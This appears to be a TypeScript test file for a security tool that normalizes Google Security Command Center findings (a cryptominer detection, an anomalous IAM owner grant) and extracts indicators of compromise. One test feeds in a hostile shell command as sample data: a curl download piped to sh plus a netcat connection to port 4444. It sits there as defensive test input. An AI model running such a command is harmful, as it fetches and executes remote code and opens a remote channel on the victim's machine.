import assert from "node:assert/strict";
import { describe, it } from "node:test";
import { InvalidInputError } from "../../../functions/src/domain/errors.js";
import {
  FINDING_LIMITS,
  type Finding,
  FindingSchema,
  findingIocs,
  normalizeNotification,
  parseNotification,
} from "../../../functions/src/domain/finding.js";
import { jsonBytes } from "../../../functions/src/domain/json.js";
import { sccFinding, sccNotification } from "../../fixtures/scc.js";

/** What ingest does with a Pub/Sub payload. */
const ingestPayload = (payload: unknown): Finding => normalizeNotification(parseNotification(payload));

function invalidInput(fn: () => unknown): InvalidInputError {
  try {
    fn();
  } catch (error) {
    assert.ok(error instanceof InvalidInputError, `expected InvalidInputError, got ${String(error)}`);
    assert.equal(error.code, "invalid_input");
    assert.equal(error.retryable, false);
    return error;
  }
  assert.fail("expected an InvalidInputError, nothing was thrown");
}

const FINDING_KEYS = [
  "access",
  "category",
  "connections",
  "createTime",
  "description",
  "eventTime",
  "externalUri",
  "files",
  "findingClass",
  "iamBindings",
  "indicators",
  "mitre",
  "mute",
  "name",
  "notificationConfigName",
  "processes",
  "resource",
  "severity",
  "sourceProperties",
  "state",
  "truncated",
];

describe("normalizeNotification: v1 and v2 notifications", () => {
  it("normalizes a v1 cryptominer notification into every field the agent reads", () => {
    const f = sccFinding("v1-cryptominer");

    assert.equal(
      f.name,
      "organizations/123456789012/sources/11223344556677889900/findings/6d1f0c7a2e4b4b7d9f1a3c5e7b9d1f3a",
    );
    assert.equal(f.notificationConfigName, "organizations/123456789012/notificationConfigs/ferret-findings");
    assert.equal(f.category, "Execution: Cryptocurrency Mining Combined Detection");
    assert.equal(f.severity, "HIGH");
    assert.equal(f.findingClass, "THREAT");
    assert.equal(f.state, "ACTIVE");
    assert.equal(f.mute, "UNMUTED");
    assert.equal(f.eventTime, "2024-05-14T09:31:07.123Z");
    assert.equal(f.createTime, "2024-05-14T09:31:09.456Z");
    assert.equal(
      f.description,
      "Virtual Machine Threat Detection found a cryptocurrency miner in the memory of web-1.",
    );
    assert.deepEqual(f.resource, {
      name: "//compute.googleapis.com/projects/acme-prod/zones/us-central1-a/instances/4567890123456789012",
      type: "google.compute.Instance",
      project: "//cloudresourcemanager.googleapis.com/projects/987654321098",
      projectDisplayName: "acme-prod",
      displayName: "web-1",
    });
    assert.deepEqual(f.indicators, {
      ipAddresses: ["45.9.148.108"],
      domains: ["Pool.SupportXMR.com"],
      uris: ["stratum+tcp://pool.supportxmr.com:3333"],
      // binary, script and file hashes, lowercased
      hashes: [
        "3f5a1c9e8b7d6a5f4e3d2c1b0a9f8e7d6c5b4a3f2e1d0c9b8a7f6e5d4c3b2a19",
        "aa11bb22cc33dd44ee55ff66aa11bb22cc33dd44ee55ff66aa11bb22cc33dd44",
        "bb22cc33dd44ee55ff66aa11bb22cc33dd44ee55ff66aa11bb22cc33dd44ee55",
      ],
      signatures: ["memory-hash:XMRig", "memory-hash-binary:xmrig-6.16.4", "yara:YARA_RULE_XMRIG_CONFIG"],
    });
    assert.deepEqual(f.processes, [
      {
        name: "kworkerds",
        binaryPath: "/tmp/.X11-unix/kworkerds",
        sha256: "3f5a1c9e8b7d6a5f4e3d2c1b0a9f8e7d6c5b4a3f2e1d0c9b8a7f6e5d4c3b2a19",
        args: [
          "/tmp/.X11-unix/kworkerds",
          "-o",
          "pool.supportxmr.com:3333",
          "-u",
          "wallet-redacted",
          "--donate-level=0",
        ],
        pid: "4321",
        parentPid: "1200", // a number in the payload, a string in the finding
      },
    ]);
    assert.deepEqual(f.files, [
      {
        path: "/tmp/.X11-unix/config.json",
        sha256: "bb22cc33dd44ee55ff66aa11bb22cc33dd44ee55ff66aa11bb22cc33dd44ee55",
      },
    ]);
    assert.deepEqual(f.connections, [
      {
        destinationIp: "45.9.148.108",
        destinationPort: 3333,
        sourceIp: "10.128.0.7",
        sourcePort: 50612,
        protocol: "TCP",
      },
    ]);
    assert.deepEqual(f.mitre, {
      primaryTactic: "IMPACT",
      techniques: ["RESOURCE_HIJACKING", "COMMAND_AND_SCRIPTING_INTERPRETER"],
      tactics: ["EXECUTION"],
    });
    assert.deepEqual(f.iamBindings, []);
    assert.equal(f.access, undefined);
    assert.deepEqual(f.sourceProperties, {
      vm_instance_name: "web-1",
      detection_type: "YARA_AND_MEMORY_HASH",
      evidence: [{ sourceLogId: { resourceContainer: "projects/acme-prod" } }],
    });
    assert.deepEqual(f.truncated, []);
    assert.ok(FindingSchema.safeParse(f).success);
  });

  it("gives a v2 notification (locations/global, resource.gcpMetadata.project) the same normalized fields", () => {
    const v1 = sccFinding("v1-cryptominer");
    const v2 = sccFinding("v2-cryptominer");

    assert.equal(
      v2.name,
      "organizations/123456789012/sources/11223344556677889900/locations/global/findings/6d1f0c7a2e4b4b7d9f1a3c5e7b9d1f3a",
    );
    assert.equal(
      v2.notificationConfigName,
      "organizations/123456789012/locations/global/notificationConfigs/ferret-findings",
    );
    // the v2 payload has no resource.project; the project comes from gcpMetadata
    assert.equal(sccNotification("v2-cryptominer").resource?.project, undefined);
    assert.equal(v2.resource.project, "//cloudresourcemanager.googleapis.com/projects/987654321098");
    assert.equal(v2.resource.projectDisplayName, "acme-prod");

    const { name: _n1, notificationConfigName: _c1, ...rest1 } = v1;
    const { name: _n2, notificationConfigName: _c2, ...rest2 } = v2;
    assert.deepEqual(rest2, rest1);
  });

  it("normalizes access details, IAM bindings and a lowercase severity (v1 IAM anomalous grant)", () => {
    const f = sccFinding("v1-iam-anomalous-grant");
    assert.equal(f.severity, "HIGH");
    assert.equal(f.eventTime, "2024-06-02T22:14:55.918264Z", "microsecond eventTime is accepted verbatim");
    assert.deepEqual(f.access, {
      principalEmail: "ci-deployer@acme-prod.iam.gserviceaccount.com",
      callerIp: "203.0.113.77",
      callerIpRegion: "NL",
      userAgent: "google-cloud-sdk gcloud/471.0.0 command/gcloud.projects.add-iam-policy-binding",
      serviceName: "cloudresourcemanager.googleapis.com",
      methodName: "SetIamPolicy",
      serviceAccountKeyName:
        "//iam.googleapis.com/projects/acme-prod/serviceAccounts/ci-deployer@acme-prod.iam.gserviceaccount.com/keys/0f1e2d3c4b5a69788796a5b4c3d2e1f0",
    });
    assert.deepEqual(f.iamBindings, [
      { action: "ADD", role: "roles/owner", member: "user:mallory.contractor@gmail.com" },
    ]);
    assert.deepEqual(f.mitre, {
      primaryTactic: "PERSISTENCE",
      techniques: ["VALID_ACCOUNTS", "CLOUD_ACCOUNTS"],
      tactics: [],
    });
    assert.deepEqual(f.processes, []);
    assert.deepEqual(f.indicators, { ipAddresses: [], domains: [], uris: [], hashes: [], signatures: [] });
    assert.equal(f.resource.type, "google.cloud.resourcemanager.Project");
  });

  it("tolerates fields SCC adds without notice and does not carry them into the finding", () => {
    const n = sccNotification("v2-cryptominer");
    n.someFutureEnvelopeField = { nested: [1, 2, 3] };
    n.finding.kernelRootkit = { name: "Diamorphine", unexpectedCodeModification: true };
    n.finding.attackExposure = { score: 4.2, state: "CALCULATED" };
    n.finding.indicator = { ...(n.finding.indicator as object), newIndicatorKind: ["x"] };
    n.resource = { ...n.resource, adcApplication: { name: "x" } };

    const f = ingestPayload(n);
    assert.deepEqual(Object.keys(f).sort(), FINDING_KEYS);
    assert.deepEqual(Object.keys(f.indicators).sort(), [
      "domains",
      "hashes",
      "ipAddresses",
      "signatures",
      "uris",
    ]);
    assert.ok(!JSON.stringify(f).includes("Diamorphine"));
    assert.deepEqual(f, sccFinding("v2-cryptominer"));
  });

  it("fills the documented defaults when optional fields are absent", () => {
    const f = ingestPayload({
      finding: {
        name: "organizations/1/sources/2/findings/3",
        category: "Discovery: Service Account Self-Investigation",
        eventTime: "2024-05-14T09:31:07Z",
        resourceName: "//iam.googleapis.com/projects/p/serviceAccounts/sa@p.iam.gserviceaccount.com",
      },
    });
    assert.equal(f.severity, "SEVERITY_UNSPECIFIED");
    assert.equal(f.findingClass, "FINDING_CLASS_UNSPECIFIED");
    assert.equal(f.state, "STATE_UNSPECIFIED");
    assert.equal(f.mute, "MUTE_UNSPECIFIED");
    assert.equal(
      f.resource.name,
      "//iam.googleapis.com/projects/p/serviceAccounts/sa@p.iam.gserviceaccount.com",
    );
    assert.equal(f.resource.project, undefined);
    assert.deepEqual(f.sourceProperties, {});
    assert.deepEqual(f.truncated, []);
  });
});

describe("severity parsing", () => {
  const cases: [string | undefined, Finding["severity"]][] = [
    ["CRITICAL", "CRITICAL"],
    ["HIGH", "HIGH"],
    ["medium", "MEDIUM"],
    ["Low", "LOW"],
    ["SEVERITY_UNSPECIFIED", "SEVERITY_UNSPECIFIED"],
    ["URGENT", "SEVERITY_UNSPECIFIED"],
    ["", "SEVERITY_UNSPECIFIED"],
    [undefined, "SEVERITY_UNSPECIFIED"],
  ];
  for (const [raw, expected] of cases) {
    it(`${JSON.stringify(raw) ?? "missing"} → ${expected}`, () => {
      const n = sccNotification("v1-cryptominer");
      if (raw === undefined) delete n.finding.severity;
      else n.finding.severity = raw;
      assert.equal(ingestPayload(n).severity, expected);
    });
  }
});

describe("findingIocs", () => {
  it("types the cryptominer's indicators, hashes and connection, merging duplicates (first context wins)", () => {
    assert.deepEqual(findingIocs(sccFinding("v1-cryptominer")), [
      { type: "ip", value: "45.9.148.108", context: "SCC indicator" },
      { type: "domain", value: "pool.supportxmr.com", context: "SCC indicator" },
      { type: "url", value: "stratum+tcp://pool.supportxmr.com:3333", context: "SCC indicator" },
      {
        type: "hash",
        value: "3f5a1c9e8b7d6a5f4e3d2c1b0a9f8e7d6c5b4a3f2e1d0c9b8a7f6e5d4c3b2a19",
        context: "process or file hash",
      },
      {
        type: "hash",
        value: "aa11bb22cc33dd44ee55ff66aa11bb22cc33dd44ee55ff66aa11bb22cc33dd44",
        context: "process or file hash",
      },
      {
        type: "hash",
        value: "bb22cc33dd44ee55ff66aa11bb22cc33dd44ee55ff66aa11bb22cc33dd44ee55",
        context: "process or file hash",
      },
    ]);
  });

  it("takes the caller IP, the acting principal and IAM members (prefix stripped)", () => {
    assert.deepEqual(findingIocs(sccFinding("v1-iam-anomalous-grant")), [
      { type: "ip", value: "203.0.113.77", context: "caller IP" },
      {
        type: "principal",
        value: "ci-deployer@acme-prod.iam.gserviceaccount.com",
        context: "acting principal",
      },
      { type: "principal", value: "mallory.contractor@gmail.com", context: "IAM ADD roles/owner" },
    ]);
  });

  for (const callerIp of ["gce-internal-ip", "private"]) {
    it(`keeps a redacted caller IP (${callerIp}) on the finding but not as an IP IOC`, () => {
      const n = sccNotification("v1-iam-anomalous-grant");
      n.finding.access = { ...(n.finding.access as object), callerIp };
      const f = ingestPayload(n);
      assert.equal(f.access?.callerIp, callerIp);
      assert.deepEqual(
        findingIocs(f).map((i) => [i.type, i.value]),
        [
          ["principal", "ci-deployer@acme-prod.iam.gserviceaccount.com"],
          ["principal", "mallory.contractor@gmail.com"],
        ],
      );
    });
  }

  it("takes an IPv6 caller IP", () => {
    const n = sccNotification("v1-iam-anomalous-grant");
    n.finding.access = { ...(n.finding.access as object), callerIp: "2001:db8::7" };
    assert.deepEqual(findingIocs(ingestPayload(n))[0], {
      type: "ip",
      value: "2001:db8::7",
      context: "caller IP",
    });
  });

  it("adds connection destinations and IOCs found in process arguments", () => {
    const n = sccNotification("v1-cryptominer");
    n.finding.indicator = {};
    n.finding.files = [];
    n.finding.processes = [
      { name: "sh", args: ["sh", "-c", "curl -fsSL http://198.51.100.23/x.sh | sh; nc 192.0.2.10 4444"] },
    ];
    n.finding.connections = [{ destinationIp: "192.0.2.10", destinationPort: 4444, protocol: "TCP" }];
    assert.deepEqual(findingIocs(ingestPayload(n)), [
      { type: "ip", value: "192.0.2.10", context: "connection destination port 4444" },
      { type: "url", value: "http://198.51.100.23/x.sh" },
    ]);
  });
});

describe("malformed payloads", () => {
  it("rejects a payload without a finding, naming the field", () => {
    const n = sccNotification("v1-cryptominer");
    delete (n as Partial<typeof n>).finding;
    const error = invalidInput(() => ingestPayload(n));
    assert.match(error.message, /^not an SCC notification: finding: /);
  });

  it("rejects a finding without a category, or with an empty one", () => {
    const missing = sccNotification("v1-cryptominer");
    delete missing.finding.category;
    assert.match(invalidInput(() => ingestPayload(missing)).message, /finding\.category: /);

    const empty = sccNotification("v1-cryptominer");
    empty.finding.category = "";
    assert.match(invalidInput(() => ingestPayload(empty)).message, /finding\.category: /);
  });

  it("rejects a finding without a name", () => {
    const n = sccNotification("v1-cryptominer");
    delete n.finding.name;
    assert.match(invalidInput(() => ingestPayload(n)).message, /finding\.name: /);
  });

  for (const eventTime of ["yesterday", "2024-05-14 09:31:07", "1715679067", "2024-05-14T09:31:07"]) {
    it(`rejects eventTime ${JSON.stringify(eventTime)}, naming eventTime`, () => {
      const n = sccNotification("v1-cryptominer");
      n.finding.eventTime = eventTime;
      const error = invalidInput(() => ingestPayload(n));
      assert.match(error.message, /eventTime: /);
    });
  }

  it("rejects an eventTime that is not a string", () => {
    const n = sccNotification("v1-cryptominer");
    n.finding.eventTime = 1715679067;
    assert.match(invalidInput(() => ingestPayload(n)).message, /finding\.eventTime: /);
  });

  it("rejects a known field with the wrong shape, naming its path", () => {
    const n = sccNotification("v1-cryptominer");
    n.finding.processes = { name: "not a list" };
    assert.match(invalidInput(() => ingestPayload(n)).message, /finding\.processes: /);
  });

  for (const payload of [null, "organizations/1/sources/2/findings/3", 42, [], true]) {
    it(`rejects ${JSON.stringify(payload)} (not an object) at the root`, () => {
      assert.match(
        invalidInput(() => ingestPayload(payload)).message,
        /^not an SCC notification: \(root\): /,
      );
    });
  }
});

describe("oversized fields are capped and listed in truncated", () => {
  it("cuts a 100 KB process argument and keeps the others", () => {
    const n = sccNotification("v1-cryptominer");
    const huge = `--payload=${"A".repeat(100_000)}`;
    n.finding.processes = [{ name: "python3", args: ["python3", "-c", huge, "--tail"] }];
    const f = ingestPayload(n);

    const args = f.processes[0]!.args;
    assert.equal(args.length, 4);
    assert.deepEqual([args[0], args[1], args[3]], ["python3", "-c", "--tail"]);
    assert.ok(args[2]!.length <= FINDING_LIMITS.stringChars, `arg is ${args[2]!.length} chars`);
    assert.ok(args[2]!.startsWith("--payload=AAAA"));
    assert.ok(args[2]!.endsWith("…[truncated]"));
    assert.deepEqual(f.truncated, ["processes[0].args[2]"]);
  });

  it("keeps the first 100 of 500 IP indicators", () => {
    const n = sccNotification("v1-cryptominer");
    const ips = Array.from({ length: 500 }, (_, i) => `203.0.${Math.floor(i / 250)}.${i % 250}`);
    n.finding.indicator = { ...(n.finding.indicator as object), ipAddresses: ips };
    n.finding.connections = [];
    const f = ingestPayload(n);

    assert.equal(f.indicators.ipAddresses.length, FINDING_LIMITS.listItems);
    assert.deepEqual(f.indicators.ipAddresses, ips.slice(0, FINDING_LIMITS.listItems));
    assert.deepEqual(f.truncated, ["indicator.ipAddresses"]);
    assert.equal(findingIocs(f).filter((i) => i.type === "ip").length, FINDING_LIMITS.listItems);
  });

  it("caps huge sourceProperties by whole keys, in order", () => {
    const n = sccNotification("v1-cryptominer");
    const props: Record<string, string> = {};
    for (let i = 0; i < 200; i++) props[`key${String(i).padStart(3, "0")}`] = "x".repeat(1_000);
    n.finding.sourceProperties = props;
    const f = ingestPayload(n);

    assert.ok(jsonBytes(f.sourceProperties) <= FINDING_LIMITS.sourcePropertiesBytes);
    const kept = Object.keys(f.sourceProperties);
    assert.ok(kept.length > 20 && kept.length < 200, `kept ${kept.length} keys`);
    assert.deepEqual(kept, Object.keys(props).slice(0, kept.length));
    assert.equal(f.sourceProperties.key000, "x".repeat(1_000));
    assert.deepEqual(f.truncated, ["sourceProperties"]);
  });

  it("caps a long description and a list of 500 processes, listing both", () => {
    const n = sccNotification("v1-cryptominer");
    n.finding.description = "d".repeat(50_000);
    n.finding.processes = Array.from({ length: 500 }, (_, i) => ({ name: `p${i}`, pid: i }));
    const f = ingestPayload(n);

    assert.ok(f.description!.length <= FINDING_LIMITS.stringChars);
    assert.equal(f.processes.length, FINDING_LIMITS.listItems);
    assert.equal(f.processes.at(-1)!.name, "p99");
    assert.deepEqual(f.truncated.sort(), ["description", "processes"]);
    assert.ok(FindingSchema.safeParse(f).success);
  });
});
